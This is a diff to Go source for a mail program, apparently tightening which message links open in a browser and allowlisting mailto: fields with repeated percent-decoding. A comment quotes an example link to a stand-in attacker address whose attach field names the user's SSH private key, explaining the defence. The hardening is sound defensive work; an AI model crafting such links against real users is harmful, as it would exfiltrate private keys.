@@ -18,12 +18,14 @@ import (
 	"fmt"
 	"io"
 	"mime"
+	"net/url"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"runtime"
 	"strings"
 	"time"
+	"unicode"
 
 	"github.com/sesbox/sesbox/mailstore"
 	"github.com/sesbox/sesbox/mailstore/mailcap"
@@ -189,21 +191,72 @@ func BrowserArgv(browser, target string) []string {
 	return argv
 }
 
-// OpenableURL reports whether sesbox starts a browser on u: only web and
-// mail links. Anything else from a message (file:, javascript:, a custom
-// scheme that starts some program, a leading "-" a browser would read as
-// an option) is only ever copied.
-func OpenableURL(u string) bool {
-	if strings.ContainsAny(u, " \t\r\n\x00") {
-		return false
+// NotOpenable says why sesbox does not start a browser on u, "" when it
+// does. Anything from a message but web and mail links (file:, javascript:,
+// a custom scheme that starts some program, a leading "-" a browser would
+// read as an option), a link holding a control character or a blank, and
+// a mailto: link with a field other than mailtoFields, is only ever
+// copied.
+func NotOpenable(u string) string {
+	if strings.ContainsFunc(u, func(r rune) bool { return r < 0x20 || (r >= 0x7f && r <= 0x9f) || unicode.IsSpace(r) }) {
+		return "it holds a blank or a control character"
 	}
 	l := strings.ToLower(u)
-	for _, p := range []string{"https://", "http://", "mailto:"} {
+	for _, p := range []string{"https://", "http://"} {
 		if strings.HasPrefix(l, p) && len(l) > len(p) {
-			return true
+			return ""
 		}
 	}
-	return false
+	if rest, ok := strings.CutPrefix(l, "mailto:"); ok && rest != "" {
+		return mailtoFieldsAllowed(u[len("mailto:"):])
+	}
+	return "only web and mail links are opened"
+}
+
+// mailtoFields are the fields of a mailto: link (RFC 6068) a mail client
+// opened on it may fill in. Others are refused: the mail clients xdg-open
+// hands a mailto: link to have attached a local file it names
+// ("mailto:x@evil.example?attach=/home/me/.ssh/id_rsa": Evolution,
+// KMail, Thunderbird and others read attach, attachment or attachments;
+// "Mailto: Me Your Secrets", 2020) to a reply the user then sends without
+// seeing what it carries, and other fields can set headers the user never
+// looks at.
+var mailtoFields = map[string]bool{"to": true, "cc": true, "subject": true, "body": true, "in-reply-to": true}
+
+// mailtoFieldsAllowed is "" when every field of the mailto: link whose
+// part after the scheme is rest is one of mailtoFields, else why it is
+// not opened. Fields are split at "&" and at ";" too, as some clients
+// do, and each name and the address are read percent-decoded until they
+// no longer change: "%61ttach" is attach, and an address of
+// "x%3Fattach=..." is a field to a client that decodes it first.
+func mailtoFieldsAllowed(rest string) string {
+	const why = "its mailto: fields go beyond to, cc, subject, body" // in-reply-to too; 76 cells with the notice
+	addr, query, _ := strings.Cut(rest, "?")
+	if strings.ContainsAny(unescapeAll(addr), "?&;") {
+		return why
+	}
+	for _, f := range strings.FieldsFunc(query, func(r rune) bool { return r == '&' || r == ';' }) {
+		name, _, _ := strings.Cut(f, "=")
+		name = unescapeAll(name)
+		if strings.ContainsAny(name, "?&;=") || !mailtoFields[strings.ToLower(strings.TrimSpace(name))] {
+			return why
+		}
+	}
+	return ""
+}
+
+// unescapeAll percent-decodes s until it no longer changes (at most a
+// few times; what still decodes after that is returned with a "%", which
+// names no field).
+func unescapeAll(s string) string {
+	for range 4 {
+		d, err := url.PathUnescape(s)
+		if err != nil || d == s {
+			return d
+		}
+		s = d
+	}
+	return s + "%"
 }
 
 // Start starts argv detached: no terminal (its output is discarded so it
